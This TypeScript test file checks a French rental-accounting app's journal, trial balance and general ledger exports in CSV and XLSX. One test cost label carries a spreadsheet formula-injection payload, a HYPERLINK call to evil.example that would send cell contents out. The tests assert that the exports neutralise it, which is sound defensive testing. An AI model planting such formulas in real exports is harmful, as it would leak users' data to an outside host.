/**
 * The accountant's spreadsheets: journal, trial balance and general ledger of a period, in CSV
 * and XLSX, read back as an accountant's software would — numbers, dates, account numbers of the
 * plan comptable with auxiliaries, French «Nature», and text cells that never run as formulas.
 */
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { createTestApp } from "../support/app";
import { useTestDatabase } from "../support/db";
import { createOrganisation, createTenancy, createUser, sessionCookieFor } from "../support/factories";

const db = useTestDatabase();
const UUID = /[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/i;

async function setup() {
  const organisation = await createOrganisation(db.current.db);
  const user = await createUser(db.current.db, { organisationId: organisation.id, role: "finance" });
  const cookie = await sessionCookieFor(db.current.db, user);
  const { call } = createTestApp(db.current, { now: "2026-03-20T10:00:00+01:00" });
  let n = 0;
  const post = (path: string, body: unknown) =>
    call("POST", path, { cookie, body, headers: { "idempotency-key": `k-${n++}` } });
  const download = async (path: string) => {
    const response = await call("GET", path, { cookie });
    expect(response.status, path).toBe(200);
    return response.response;
  };
  return { organisation, post, download };
}

async function february(s: Awaited<ReturnType<typeof setup>>) {
  const { lease, unit } = await createTenancy(db.current.db, s.organisation.id, {
    startDate: "2026-01-01",
    rentCents: 40_000,
    chargesCents: 5_000,
    housingBenefitCents: 20_000,
  });
  await s.post("/api/ledger/rent-calls", { period: "2026-02" });
  await s.post("/api/ledger/payments", {
    leaseId: lease.id,
    amountCents: 10_050,
    method: "transfer",
    receivedOn: "2026-02-05",
  });
  const cost = await s.post("/api/costs", {
    category: "repairs",
    amountCents: 12_345,
    occurredOn: "2026-02-10",
    label: '=HYPERLINK("http://evil.example/?x="&A1,"Facture")',
    unitId: unit.id,
  });
  expect(cost.status).toBe(201);
}

const rowsOf = (csv: string) =>
  csv
    .replace(/^\uFEFF/, "")
    .trimEnd()
    .split("\r\n")
    .map((line) => line.split(";"));

describe("accounting exports", () => {
  it("writes the journal with FEC entry and account numbers, French natures and neutralised text", async () => {
    const s = await setup();
    await february(s);
    const csv = await (
      await s.download("/api/reports/finance/journal.csv?from=2026-02-01&to=2026-02-28")
    ).text();
    expect(csv).not.toMatch(UUID);
    const rows = rowsOf(csv);
    expect(rows[0]).toEqual([
      "Date",
      "Écriture",
      "Nature",
      "Libellé",
      "Compte",
      "Intitulé du compte",
      "Compte auxiliaire",
      "Nom auxiliaire",
      "Débit",
      "Crédit",
    ]);
    const tenantLine = rows.find((r) => r[4] === "411000" && r[2] === "Appel de loyer")!;
    expect(tenantLine[0]).toBe("01/02/2026");
    expect(tenantLine[1]).toMatch(/^VT2026-\d{6}$/);
    expect(tenantLine[6]).toMatch(/^L\d{5}$/);
    expect(tenantLine[8]).toBe("250,00"); // 450,00 called − 200,00 expected from the CAF (441)
    expect(rows.some((r) => r[2] === "Paiement du locataire" && r[4] === "512000" && r[8] === "100,50")).toBe(
      true,
    );
    // the cost's label would be a live formula in a spreadsheet: it starts with an apostrophe
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Facture"")"`);
    expect(csv).not.toMatch(/;=HYPERLINK|;"=HYPERLINK/);
  });

  it("balances the trial balance and runs each account's balance in the general ledger", async () => {
    const s = await setup();
    await february(s);
    const balance = rowsOf(
      await (await s.download("/api/reports/finance/trial-balance.csv?from=2026-02-01&to=2026-02-28")).text(),
    );
    expect(balance[0]).toEqual([
      "Compte",
      "Intitulé",
      "Compte auxiliaire",
      "Nom auxiliaire",
      "Total débit",
      "Total crédit",
      "Solde débiteur",
      "Solde créditeur",
    ]);
    const total = balance.at(-1)!;
    expect(total[0]).toBe("Total");
    expect(total[4]).toBe(total[5]); // Σ debits = Σ credits
    expect(total[6]).toBe(total[7]);
    const tenant = balance.find((r) => r[0] === "411000")!;
    // called 450,00 − CAF part 200,00 = 250,00 owed by the tenant, 100,50 paid
    expect(tenant.slice(4)).toEqual(["250,00", "100,50", "149,50", "0,00"]);

    const ledger = rowsOf(
      await (
        await s.download("/api/reports/finance/general-ledger.csv?from=2026-02-01&to=2026-02-28")
      ).text(),
    );
    const tenantLines = ledger.filter((r) => r[0] === "411000");
    expect(tenantLines.map((r) => r[10])).toEqual(["250,00", "149,50"]);
  });

  it("gives XLSX amounts as euro numbers, dates as dates, a frozen header row and filters", async () => {
    const s = await setup();
    await february(s);
    for (const report of ["journal", "trial-balance", "general-ledger"]) {
      const response = await s.download(`/api/reports/finance/${report}.xlsx?from=2026-02-01&to=2026-02-28`);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await response.arrayBuffer()) as never);
      const sheet = workbook.worksheets[0]!;
      expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
      expect(sheet.autoFilter).toBeTruthy();
      const header = (sheet.getRow(1).values as unknown[]).slice(1);
      const debit = header.indexOf(report === "trial-balance" ? "Total débit" : "Débit") + 1;
      const second = sheet.getRow(2);
      expect(typeof second.getCell(debit).value).toBe("number");
      expect(second.getCell(debit).numFmt).toContain("€");
      if (report !== "trial-balance") {
        const date = second.getCell(header.indexOf("Date") + 1);
        expect(date.value).toBeInstanceOf(Date);
        expect(date.numFmt).toBe("dd/mm/yyyy");
      }
    }
    const journal = new ExcelJS.Workbook();
    await journal.xlsx.load(
      (await (
        await s.download("/api/reports/finance/journal.xlsx?from=2026-02-01&to=2026-02-28")
      ).arrayBuffer()) as never,
    );
    const labels: unknown[] = [];
    journal.worksheets[0]!.eachRow((row) => labels.push(row.getCell(4).value));
    expect(labels).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"Facture")`);
    expect(labels.some((value) => typeof value === "object" && value !== null && "formula" in value)).toBe(
      false,
    );
  });

  it("refuses a range that ends before it starts", async () => {
    const s = await setup();
    const { call } = createTestApp(db.current, { now: "2026-03-20T10:00:00+01:00" });
    const user = await createUser(db.current.db, { organisationId: s.organisation.id, role: "finance" });
    const cookie = await sessionCookieFor(db.current.db, user);
    const bad = await call("GET", "/api/reports/finance/general-ledger.csv?from=2026-03-01&to=2026-02-01", {
      cookie,
    });
    expect(bad.status).toBe(422);
  });
});
